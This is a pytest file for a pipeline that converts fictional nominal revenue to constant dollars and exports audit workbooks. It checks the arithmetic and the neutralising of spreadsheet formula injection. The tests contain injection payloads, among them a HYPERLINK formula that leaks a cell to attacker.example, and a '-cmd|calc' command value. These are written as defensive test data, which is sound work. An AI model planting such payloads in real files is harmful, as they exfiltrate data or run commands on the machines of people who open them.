"""The audit workbook: the command line's numbers, read back; formula injection neutralised.

Sources for the arithmetic checked here:
* constant dollars of base period B: real(t) = nominal(t) x I(B) / I(t), with the index
  rebased so that its mean over B is 100 (IMF Quarterly National Accounts Manual 2017,
  ch. 8; DESIGN.md "Facts of the trade");
* flows are deflated at the highest shared frequency and then summed (same manual,
  ch. 8), so a fiscal-year real flow is the sum of its monthly real values;
* spreadsheet formula injection: OWASP "CSV Injection" — cells beginning with = + - @,
  tab or carriage return are prefixed with a single quote.
The input files are invented, illustrative numbers (Harbourline Outfitters, fictional).
"""

from __future__ import annotations

import io
import re

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from pipeline.cli import main
from pipeline.deflate import deflate, deflate_frame
from pipeline.errors import RealbasisError
from pipeline.export import write_result
from pipeline.model import MONTHLY, Series, Workspace
from pipeline.store import AccessContext, WorkspaceStore, access_context
from pipeline.workbook import export_workspace

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV Injection"
NAMES = ("Apparel revenue", "Footwear revenue")
XLSX_RTOL = 1e-15  # see the first test
MONTHS = pd.period_range("2023-07", "2025-06", freq="M")


def _inputs(tmp_path, series_names=NAMES):
    """A wide money file and a long index file with preliminary and projected values."""
    rng = np.random.default_rng(7)
    money = pd.DataFrame({"period": [f"{p.year:04d}-{p.month:02d}" for p in MONTHS]})
    for k, name in enumerate(series_names):
        money[name] = np.round(1000 + 50 * k + rng.normal(0, 20, len(MONTHS)).cumsum(), 2)
    m = tmp_path / "revenue.csv"
    money.to_csv(m, index=False)
    rows = []
    for name, growth in (("Consumer index", 0.003), ("Producer index", 0.001)):
        level = 100.0
        for i, p in enumerate(MONTHS):
            level *= 1 + growth + 0.002 * np.sin(i)
            status = "final" if i < 20 else ("preliminary" if i < 23 else "projected")
            rows.append((name, f"{p.year:04d}-{p.month:02d}", round(level, 3),
                         "index 2023=100", status))
    idx = pd.DataFrame(rows, columns=["series", "period", "value", "unit", "status"])
    i = tmp_path / "indexes.csv"
    idx.to_csv(i, index=False)
    return m, i, money, idx


def _cli(capsys, *args):
    """Run ``realbasis ...`` in-process (the same entry point as the console script)."""
    capsys.readouterr()
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    assert code == 0, out.err
    return out


def _sheet_rows(wb, title, header_row=1):
    rows = list(wb[title].iter_rows(values_only=True))
    header = list(rows[header_row - 1])
    return header, [list(r) for r in rows[header_row:]]


def test_workbook_from_the_command_line_equals_its_printed_table(tmp_path, capsys):
    m, i, money, idx = _inputs(tmp_path)
    out = tmp_path / "real.xlsx"
    _cli(capsys, "deflate", m, "--index", i, "--base", "2024", "--out", out)
    printed = pd.read_csv(io.StringIO(_cli(capsys, "deflate", m, "--index", i, "--base", "2024").out))

    wb = load_workbook(out)
    assert wb.sheetnames == ["Summary", "Real terms", "Real - Consumer index",
                             "Real - Producer index", "Indexes used", "Status flags", "Method"]
    header, rows = _sheet_rows(wb, "Real terms")
    assert header == list(printed.columns)
    back = pd.DataFrame(rows, columns=header)
    assert len(back) == len(printed) == 2 * 2 * len(MONTHS)
    for c in ("series", "deflator", "period", "status"):
        assert back[c].tolist() == printed[c].astype(str).tolist()
    for c in ("nominal", "deflator_index", "real"):
        # openpyxl writes numbers with 16 significant digits ("%.16g"), more than the 15
        # Excel keeps (Microsoft, "Excel specifications and limits", from memory); so
        # equal to 1e-15.
        np.testing.assert_allclose(back[c].to_numpy(float), printed[c].to_numpy(float),
                                   rtol=XLSX_RTOL, atol=0)

    # ... and the engine's own table, computed here in-process from the same files
    from pipeline.ingest import read_file

    money_s = [s for s in read_file(m).series if s.kind != "index"]
    index_s = list(read_file(i).series)
    table = deflate(money_s, index_s, "2024").table()
    np.testing.assert_allclose(back["real"].to_numpy(float), table["real"].to_numpy(),
                               rtol=XLSX_RTOL, atol=0)

    # ... and the definition, by hand: real = nominal * 100 / (I / mean(I over 2024))
    for dname in ("Consumer index", "Producer index"):
        lev = idx[idx["series"] == dname].set_index("period")["value"]
        rebased = 100 * lev / lev[[f"2024-{k:02d}" for k in range(1, 13)]].mean()
        for sname in NAMES:
            nominal = money.set_index("period")[sname]
            expected = nominal * 100 / rebased
            got = back[(back.series == sname) & (back.deflator == dname)].set_index("period")
            np.testing.assert_allclose(got["real"].to_numpy(float),
                                       expected.loc[got.index].to_numpy(), rtol=1e-12)
            np.testing.assert_allclose(got["deflator_index"].to_numpy(float),
                                       rebased.loc[got.index].to_numpy(), rtol=1e-12)

    # per-deflator sheets carry the same real values, wide
    header, rows = _sheet_rows(wb, "Real - Producer index", header_row=3)
    assert header[:4] == ["period", "Apparel revenue (nominal)", "Apparel revenue (real)",
                          "Apparel revenue status"]
    wide = pd.DataFrame(rows, columns=header).set_index("period")
    sel = printed[(printed.deflator == "Producer index") & (printed.series == "Footwear revenue")]
    np.testing.assert_allclose(wide.loc[sel.period, "Footwear revenue (real)"].to_numpy(float),
                               sel["real"].to_numpy(float), rtol=XLSX_RTOL, atol=0)

    # indexes as used: rebased, mean over the base year exactly 100, statuses kept
    rows = list(wb["Indexes used"].iter_rows(values_only=True))
    hdr = rows.index(next(r for r in rows if r[0] == "period"))
    used = pd.DataFrame([r for r in rows[hdr + 1:]], columns=rows[hdr]).set_index("period")
    col = "Consumer index (2024 = 100)"
    assert used.loc[[f"2024-{k:02d}" for k in range(1, 13)], col].mean() == pytest.approx(100, abs=1e-9)
    assert used.loc["2025-06", "Consumer index status"] == "projected"

    # status flags: every non-final real value listed
    rows = list(wb["Status flags"].iter_rows(values_only=True))
    start = rows.index(("series", "deflator", "period", "real", "status", "interpolated"))
    flagged = [r for r in rows[start + 1:] if r[0]]
    assert len(flagged) == int((printed["status"] != "final").sum()) == 2 * 2 * 4
    assert {r[4] for r in flagged} == {"preliminary", "projected"}

    # method sheet: base, rules, vintages, cautions, the command
    text = "\n".join(str(c) for r in wb["Method"].iter_rows(values_only=True) for c in r if c)
    for needle in ("Base period", "Alignment rules", "Seasonal adjustment", "Index vintages",
                   "Cautions", "not official statistics", "realbasis deflate"):
        assert needle in text
    summary = "\n".join(str(c) for r in wb["Summary"].iter_rows(values_only=True) for c in r if c)
    assert "constant 2024 dollars" in summary and "Status flags" in summary


def test_fiscal_year_totals_in_the_workbook_are_sums_of_monthly_real(tmp_path, capsys):
    m, i, money, idx = _inputs(tmp_path)
    out = tmp_path / "fy.xlsx"
    _cli(capsys, "deflate", m, "--index", i, "--base", "FY2024", "--to", "FY", "--fiscal-start", "7",
         "--out", out)
    header, rows = _sheet_rows(load_workbook(out), "Real terms")
    back = pd.DataFrame(rows, columns=header)
    lev = idx[idx["series"] == "Consumer index"].set_index("period")["value"]
    fy24 = [f"2023-{k:02d}" for k in range(7, 13)] + [f"2024-{k:02d}" for k in range(1, 7)]
    rebased = 100 * lev / lev[fy24].mean()
    nominal = money.set_index("period")["Apparel revenue"]
    monthly_real = nominal * 100 / rebased
    got = back[(back.series == "Apparel revenue") & (back.deflator == "Consumer index")]
    assert got.period.tolist() == ["FY2024", "FY2025"]
    fy25 = [f"2024-{k:02d}" for k in range(7, 13)] + [f"2025-{k:02d}" for k in range(1, 7)]
    np.testing.assert_allclose(got.real.to_numpy(float),
                               [monthly_real[fy24].sum(), monthly_real[fy25].sum()], rtol=1e-12)
    # implicit annual deflator = 100 * sum(nominal) / sum(real) (IMF QNA Manual ch. 8)
    np.testing.assert_allclose(got.deflator_index.to_numpy(float),
                               100 * got.nominal.to_numpy(float) / got.real.to_numpy(float),
                               rtol=1e-12)


EVIL = ('=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+1", "-2", "@SUM(A1:A9)",
        "\tTabbed", "\rCarriage")


def _all_cells(path):
    wb = load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def _assert_neutral(path, must_contain):
    seen = set()
    for title, c in _all_cells(path):
        assert c.data_type != "f", f"formula in {title}!{c.coordinate}: {c.value!r}"
        if isinstance(c.value, str):
            assert not c.value.startswith(FORMULA_TRIGGERS), (title, c.coordinate, c.value)
            seen.add(c.value)
    # Control characters may be stored in the OOXML escape _xHHHH_ (ECMA-376 Part 1,
    # ST_Xstring), which Excel decodes and openpyxl leaves as written: decode it as Excel
    # does; a raw carriage return becomes a line feed on reading (XML 1.0, 2.11).
    seen = {re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), v)
            .replace("\r", "\n") for v in seen}
    for text in must_contain:
        want = "'" + text.replace("\r", "\n")
        assert any(v.startswith(want) for v in seen), f"{text!r} not written neutralised"


def test_formula_injection_in_names_units_and_vintages_is_neutralised(tmp_path):
    idx = MONTHS[:24]
    money = [Series(n, pd.Series(np.linspace(100, 120, 24), index=idx), MONTHLY, kind="flow",
                    unit="=1+1") for n in EVIL[:4]]
    status = pd.Series(["final"] * 22 + ["preliminary", "projected"], index=idx, dtype=object)
    indexes = [Series(n, pd.Series(np.linspace(100, 104 + k, 24), index=idx), MONTHLY,
                      kind="index", status=status, vintage="@2025-01-01", source="-cmd|calc")
               for k, n in enumerate(EVIL[4:])]
    result = deflate(money, indexes, "2024")
    path = write_result(result, tmp_path / "evil.xlsx", command="=cmd()", notes="+note")
    _assert_neutral(path, EVIL)
    wb = load_workbook(path)
    assert any(t.startswith("Real - ") for t in wb.sheetnames)
    # numbers stay numbers: the neutralising touches text only
    header, rows = _sheet_rows(wb, "Real terms")
    assert all(isinstance(r[header.index("real")], int | float) for r in rows)
    # CSV export is neutralised the same way (pipeline.export)
    plain = [s.with_values(s.values, name=f"index {k}") for k, s in enumerate(indexes)]
    csv = write_result(deflate(money, plain, "2024"), tmp_path / "evil.csv")
    back = pd.read_csv(csv, dtype=str, keep_default_na=False)
    assert set(back["series"]) == {"'" + n for n in EVIL[:4]}


def test_formula_injection_through_the_command_line(tmp_path, capsys):
    names = ("=HYPERLINK", "@SUM", "+1 revenue", "-2 revenue")
    m, i, _, _ = _inputs(tmp_path, series_names=names)
    out = tmp_path / "cli.xlsx"
    _cli(capsys, "deflate", m, "--index", i, "--base", "2024", "--out", out)
    _assert_neutral(out, names)


def test_workspace_export_has_the_audit_trail_and_records_the_vintages(tmp_path):
    store = WorkspaceStore(f"sqlite:///{tmp_path / 's.sqlite'}")
    ws = store.create("Harbourline (illustrative)")
    store.record_upload(ws.id, "=evil().csv", 10, "ab" * 32)
    idx = MONTHS[:24]
    rev = Series("Apparel revenue", pd.Series(np.linspace(100, 130, 24), index=idx), MONTHLY)
    old = Series("Consumer index", pd.Series(np.linspace(100, 104, 24), index=idx), MONTHLY,
                 kind="index", vintage="2025-01-15")
    new = old.with_values(old.values * 1.001, vintage="2025-04-15")
    ws = store.save(Workspace(ws.id, ws.name, ws.version, series={rev.name: rev},
                              indexes={"Consumer index": {"2025-01-15": old, "2025-04-15": new}},
                              settings={"base": "2024", "deflators": ["Consumer index"],
                                        "vintages": {"Consumer index": "2025-01-15"}}))
    path = export_workspace(ws, tmp_path / "ws.xlsx", store=store)
    wb = load_workbook(path)
    assert "Audit trail" in wb.sheetnames
    _assert_neutral(path, ("=evil().csv",))
    text = "\n".join(str(c) for r in wb["Method"].iter_rows(values_only=True) for c in r if c)
    assert "vintage 2025-01-15" in text and "2025-04-15" not in text  # the saved choice
    used = [e for e in store.audit(ws.id) if e.event == "used"]
    assert used[-1].detail["vintages"] == [["Consumer index", "2025-01-15"]]
    # same numbers as the engine on the same inputs
    header, rows = _sheet_rows(wb, "Real terms")
    real = [r[header.index("real")] for r in rows]
    np.testing.assert_allclose(real, deflate([rev], [old], "2024").table()["real"].to_numpy(),
                               rtol=XLSX_RTOL, atol=0)
    # a reviewer can download the same workbook; nothing is written to the store
    before = len(store.audit(ws.id))
    with access_context(AccessContext("reviewer", ws.id, "reviewer")):
        export_workspace(ws, tmp_path / "review.xlsx", store=store)
    assert len(store.audit(ws.id)) == before
    assert _sheet_rows(load_workbook(tmp_path / "review.xlsx"), "Real terms")[1] == rows
    store.close()


def test_too_many_series_for_the_wide_sheets_is_a_coded_error(tmp_path):
    idx = pd.period_range("2024-01", periods=1, freq="M")
    frame = pd.DataFrame(np.ones((1, 5462)), index=idx, columns=[f"s{j}" for j in range(5462)])
    cpi = Series("cpi", pd.Series([100.0], index=idx), MONTHLY, kind="index")
    result = deflate_frame(frame, [cpi], "2024-01", frequency=MONTHLY)
    with pytest.raises(RealbasisError) as err:
        write_result(result, tmp_path / "wide.xlsx")
    assert err.value.code == "EX101"
    assert not (tmp_path / "wide.xlsx").exists()


def test_seasonally_adjusted_export_carries_the_adjusted_values(tmp_path, capsys):
    from conftest import DEMO

    out = tmp_path / "sa.xlsx"
    _cli(capsys, "deflate", DEMO / "harbourline_revenue.csv", "--index",
         DEMO / "consumer_indexes.csv", "--base", "2024", "--sa", "stl", "--out", out)
    wb = load_workbook(out)
    header, rows = _sheet_rows(wb, "Real terms")
    table = pd.DataFrame(rows, columns=header)
    assert header[-2:] == ["nominal_sa", "real_sa"]
    real_sheets = [t for t in wb.sheetnames if t.startswith("Real - ")]
    assert real_sheets
    rows = list(wb[real_sheets[0]].iter_rows(values_only=True))
    wide = pd.DataFrame(rows[3:], columns=rows[2]).set_index("period")
    deflator = rows[0][0].split(" deflated by ", 1)[1].split(", in ", 1)[0]
    series = table["series"].iloc[0]
    part = table[(table.deflator == deflator) & (table.series == series)].set_index("period")
    np.testing.assert_allclose(
        wide.loc[part.index, f"{series} (real, seasonally adjusted)"].to_numpy(float),
        part["real_sa"].to_numpy(float), rtol=XLSX_RTOL)
    method = [r for r in wb["Method"].iter_rows(values_only=True)]
    start = [r[0] for r in method].index("Seasonal adjustment")
    assert "Seasonal adjustment (stl)" in method[start][1]
